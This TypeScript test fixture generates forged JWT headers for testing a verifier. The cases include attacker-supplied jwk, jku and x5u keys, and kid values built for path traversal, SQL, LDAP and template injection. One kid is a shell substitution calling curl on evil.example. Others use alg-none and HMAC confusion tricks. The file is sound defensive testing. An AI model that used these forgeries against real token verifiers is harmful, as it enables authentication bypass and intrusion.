import type { Forgery } from './forgedTokens.testing.ts';
import { compact, base64url, hmac, rsa, type Forge } from './tokenIssuer.testing.ts';

type Fields = Record<string, unknown>;

/** Signed with the forger's own key; the header says why it should be believed. */
const ownKey =
  (header: (forge: Forge) => Fields, claims: (forge: Forge) => Fields = () => ({})): Forgery =>
  (forge) =>
    forge.signed(
      forge.header(header(forge)),
      forge.claims(claims(forge)),
      rsa('sha256', forge.own.privateKey),
    );

/** Signed by the issuer itself: a header that must not be passed over. */
const rightKey =
  (header: Fields): Forgery =>
  (forge) =>
    forge.signed(forge.header(header));

const ownJwk = ({ own }: Forge) => own.publicKey.export({ format: 'jwk' });

/** A certificate is what a verifier that trusts `x5c` looks into; a public key in its place says enough here. */
const ownDer = ({ own }: Forge) => own.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');

/** Keys that the forger brings or says where to fetch. None of it may be looked at. */
const broughtKeys: Record<string, Forgery> = {
  'jwk of its own': ownKey((forge) => ({ jwk: ownJwk(forge) })),
  'jwk of its own and no kid': ownKey((forge) => ({ jwk: ownJwk(forge), kid: undefined })),
  'jwk of its own under the right kid': ownKey((forge) => ({ jwk: { ...ownJwk(forge), kid: forge.kid } })),
  'jwks of its own': ownKey((forge) => ({ jwks: { keys: [{ ...ownJwk(forge), kid: forge.kid }] } })),
  'x5c of its own': ownKey((forge) => ({ x5c: [ownDer(forge)] })),
  'x5t of its own': ownKey(() => ({ x5t: base64url('thumb') })),
  'x5t#S256 of its own': ownKey(() => ({ 'x5t#S256': base64url('thumb') })),
  'jku to the forger': ownKey(({ trap }) => ({ jku: `${trap}/.well-known/jwks.json` })),
  'jku to the forger and no kid': ownKey(({ trap }) => ({ jku: `${trap}/jwks.json`, kid: undefined })),
  'jku with the issuer as user': ownKey(({ trap, issuer }) => ({
    jku: `${issuer}@${new URL(trap).host}/.well-known/jwks.json`,
  })),
  'jku with the issuer in its fragment': ownKey(({ trap, issuer }) => ({ jku: `${trap}/#${issuer}` })),
  'jku to a file': ownKey(() => ({ jku: 'file:///etc/passwd' })),
  'x5u to the forger': ownKey(({ trap }) => ({ x5u: `${trap}/cert.pem` })),
  'jku and x5u in capitals': ownKey(({ trap }) => ({ JKU: `${trap}/a`, X5U: `${trap}/b` })),
  'iss in the header': ownKey(({ trap }) => ({ iss: trap })),
  'the right kid under the issuer of the forger': ownKey(
    () => ({}),
    ({ trap }) => ({ iss: trap }),
  ),
  'the right kid under an issuer nobody knows': ownKey(
    () => ({}),
    () => ({ iss: 'http://127.0.0.1:1' }),
  ),
  'the right kid, issuers of both': ownKey(
    () => ({}),
    ({ trap, issuer }) => ({ iss: [trap, issuer] }),
  ),
};

/** What a key id may be mistaken for. */
const kids: Record<string, unknown> = {
  'a path': '../../../../dev/null',
  'an absolute path': '/proc/sys/kernel/randomize_va_space',
  'a path in percents': '..%2f..%2fetc%2fpasswd',
  'a Windows path': '..\\..\\windows\\win.ini',
  SQL: "x' UNION SELECT 'secret' --",
  'SQL without spaces': "'/**/OR/**/'1'='1",
  'a shell command': '$(curl evil.example)',
  'a template': '{{7*7}}${7*7}',
  'an LDAP filter': '*)(uid=*))(|(uid=*',
  'NUL after the right one': 'key-1\u0000',
  'NUL before the right one': '\u0000key-1',
  'the right one and a line end': 'key-1\n',
  'the right one and a space': 'key-1 ',
  'the right one in capitals': 'KEY-1',
  'the right one with a homoglyph': 'k\u0435y-1',
  'the right one with a fullwidth digit': 'key-\uff11',
  'the right one in an array': ['key-1'],
  'the right one in an object': { kid: 'key-1' },
  'another one': 'key-2',
  'empty text': '',
  'a number': 0,
  null: null,
  true: true,
  '__proto__ by name': '__proto__',
  constructor: 'constructor',
  toString: 'toString',
  hasOwnProperty: 'hasOwnProperty',
  undefined: 'undefined',
  '300 characters': 'k'.repeat(300),
  '64 KB': 'k'.repeat(64 * 1024),
};

const kidForgeries = Object.fromEntries(
  Object.entries(kids).map(([name, kid]): [string, Forgery] => [
    `kid that is ${name}`,
    ownKey(() => ({ kid })),
  ]),
);

/** Headers that change what a token means, each under the issuer's own signature. */
const extensions: Record<string, Forgery> = {
  'crit with exp': rightKey({ crit: ['exp'], exp: 1 }),
  'crit with a name nobody knows': rightKey({ crit: ['urn:example:locked'], 'urn:example:locked': true }),
  'crit that is empty': rightKey({ crit: [] }),
  'crit that is text': rightKey({ crit: 'exp' }),
  'crit that is null': rightKey({ crit: null }),
  'crit with alg': rightKey({ crit: ['alg'] }),
  'b64 false, critical': rightKey({ crit: ['b64'], b64: false }),
  'b64 false, not critical': rightKey({ b64: false }),
  'b64 false, payload as it is': ({ header, claims, right }) => {
    const input = `${base64url(JSON.stringify(header({ crit: ['b64'], b64: false })))}.${JSON.stringify(claims())}`;
    return `${input}.${base64url(rsa('sha256', right.privateKey)(input))}`;
  },
  'zip DEF': rightKey({ zip: 'DEF' }),
  'enc beside RS256': rightKey({ enc: 'A256GCM' }),
  'cty JWT': rightKey({ cty: 'JWT' }),
  'typ of an access token': rightKey({ typ: 'at+jwt' }),
  'typ of a DPoP proof': rightKey({ typ: 'dpop+jwt' }),
  'typ of a logout token': rightKey({ typ: 'logout+jwt' }),
  'typ of a security event': rightKey({ typ: 'secevent+jwt' }),
  'typ JOSE': rightKey({ typ: 'JOSE' }),
  'typ that is empty': rightKey({ typ: '' }),
  'typ that is a number': rightKey({ typ: 1 }),
  'typ JWT and NUL': rightKey({ typ: 'JWT\u0000' }),
  'no kid': rightKey({ kid: undefined }),
};

const twice = (header: string, signer?: (forge: Forge) => ReturnType<typeof rsa>): Forgery => {
  return (forge) =>
    compact(
      header.replaceAll('KID', forge.kid),
      JSON.stringify(forge.claims()),
      signer?.(forge) ?? rsa('sha256', forge.right.privateKey),
    );
};

const duplicates: Record<string, Forgery> = {
  'alg twice, none first': twice('{"alg":"none","alg":"RS256","kid":"KID"}'),
  'alg twice, none last': twice('{"alg":"RS256","alg":"none","kid":"KID"}'),
  'alg twice, the second escaped': twice('{"alg":"RS256","\\u0061lg":"RS256","kid":"KID"}'),
  'alg twice, HMAC first': twice('{"alg":"HS256","alg":"RS256","kid":"KID"}', ({ kid }) =>
    hmac('sha256', kid),
  ),
  'kid twice': twice('{"alg":"RS256","kid":"other","kid":"KID"}'),
  'typ twice': twice('{"alg":"RS256","kid":"KID","typ":"at+jwt","typ":"JWT"}'),
};

export const headerForgeries: Record<string, Forgery> = {
  ...broughtKeys,
  ...kidForgeries,
  ...extensions,
  ...duplicates,
};
